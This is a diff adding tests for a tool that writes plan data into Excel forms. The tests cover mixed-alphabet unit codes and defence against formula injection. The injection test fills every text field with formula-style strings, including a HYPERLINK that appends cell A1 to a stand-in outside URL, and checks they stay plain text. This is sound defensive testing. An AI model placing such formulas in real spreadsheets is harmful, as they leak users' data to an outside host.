@@ -263,6 +263,13 @@ def test_esep_forms_for_an_unknown_unit_says_so_in_one_line(tmp_path):
     assert len(result.output.strip().splitlines()) == 1 and "no unit ХХХ" in result.output
 
 
+def test_esep_forms_unit_is_read_as_the_plan_reads_codes(tmp_path):
+    result = CliRunner().invoke(cli, ["forms", str(PLAN_JSON), "--year", "2025", "-o",
+                                      str(tmp_path), "--unit", "Kб", "--unit", "ККББ"])
+    assert result.exit_code == 0, result.output
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["2025-КБ.xlsx", "2025-ККББ.xlsx"]
+
+
 def test_esep_forms_for_a_year_outside_the_plan_fails(tmp_path):
     result = CliRunner().invoke(cli, ["forms", str(PLAN_JSON), "--year", "2031", "-o",
                                       str(tmp_path)])
@@ -294,3 +301,39 @@ def test_esep_forms_refuses_a_due_date_before_the_year_ends(tmp_path, due):
                              "reports the whole year; give a date in 2026 (by default "
                              "15.01.2026)\n")
     assert not (tmp_path / "forms").exists()
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _plan_with_formula_texts(plan):
+    """Return `plan` with every text a form shows starting with one of FORMULA_STARTS."""
+    from dataclasses import replace
+    hostile = iter(f'{FORMULA_STARTS[i % 6]}HYPERLINK("http://x.example/"&A1,"Click{i}")'
+                   for i in range(10_000))
+    sections = tuple(replace(s, tasks=tuple(
+        replace(t, text=next(hostile), measures=tuple(
+            replace(m, text=next(hostile), expected_result=next(hostile),
+                    deadline=replace(m.deadline, text=next(hostile)))
+            for m in t.measures))
+        for t in s.tasks)) for s in plan.sections)
+    glossary = tuple(replace(g, name=next(hostile)) for g in plan.glossary)
+    return replace(plan, title="=1+1", sections=sections, glossary=glossary)
+
+
+def test_plan_texts_starting_like_a_formula_stay_text(plan):
+    import zipfile
+    hostile = _plan_with_formula_texts(plan)
+    for unit in form_units(hostile, YEAR):
+        data = form_bytes(hostile, unit, YEAR)
+        with zipfile.ZipFile(io.BytesIO(data)) as z:
+            for name in z.namelist():
+                if name.startswith("xl/worksheets/"):
+                    assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), (unit, name)
+        ws = load_workbook(io.BytesIO(data)).worksheets[0]
+        rows = unit_measures(hostile, unit, YEAR)
+        for offset, form_row in enumerate(rows):
+            cell = ws.cell(FIRST_ROW + offset, COL["measure"])
+            assert cell.data_type == "s" and cell.quotePrefix
+            assert cell.value.replace("\r", "\n") == form_row.measure.text.replace("\r", "\n")
+        assert ws["C4"].value == "=1+1" and ws["C4"].data_type == "s"
